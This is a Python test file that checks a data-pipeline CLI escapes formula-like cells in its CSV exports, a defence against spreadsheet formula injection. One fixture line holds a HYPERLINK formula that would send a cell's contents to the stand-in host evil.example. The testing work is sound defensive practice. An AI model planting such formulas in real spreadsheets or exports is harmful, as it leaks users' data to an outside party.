"""What the CLI prints or exports cannot act on the reader's tools: a spreadsheet opening a
CSV export, or the terminal showing a memory."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from typer.testing import CliRunner

from kore_pipeline.cli.app import app
from kore_pipeline.lake.publish import publish
from kore_pipeline.settings import KoreSettings
from kore_pipeline.store.db import connect
from tests.helpers import extracted_home, message

runner = CliRunner()
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A2)"]


def _published(tmp_path: Path, texts: list[str]) -> KoreSettings:
    settings = extracted_home(tmp_path, [message(t, message_id=f"m{i}")
                                         for i, t in enumerate(texts)])
    conn = connect(settings.db_path())
    try:
        publish(conn, settings.lake_dir(), settings)
    finally:
        conn.close()
    return settings


def test_sql_csv_escapes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    settings = _published(tmp_path, [*FORMULAS, "I drink green tea."])
    result = runner.invoke(app, ["sql", "SELECT text, -5 AS delta FROM messages ORDER BY text",
                                 "--format", "csv", "--home", str(settings.home)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["text", "delta"]
    cells = {r[0] for r in rows[1:]}
    assert cells == {*(f"'{t}" for t in FORMULAS), "I drink green tea."}
    assert {r[1] for r in rows[1:]} == {"-5"}  # a number stays a number


def test_sql_csv_escapes_a_leading_tab_or_return(tmp_path: Path) -> None:
    settings = _published(tmp_path, ["I drink green tea."])
    statement = "SELECT chr(9) || '=1+2' AS tab, chr(13) || '=1+2' AS cr FROM messages"
    result = runner.invoke(app, ["sql", statement, "--format", "csv", "--home",
                                 str(settings.home)])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.stdout)))[1] == ["'\t=1+2", "'\r=1+2"]


def test_sql_csv_to_a_file_is_escaped_too(tmp_path: Path) -> None:
    settings = _published(tmp_path, ["=1+2"])
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["sql", "SELECT text AS \"=col\" FROM messages", "--format",
                                 "csv", "--out", str(out), "--home", str(settings.home)])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(out.open())) == [["'=col"], ["'=1+2"]]
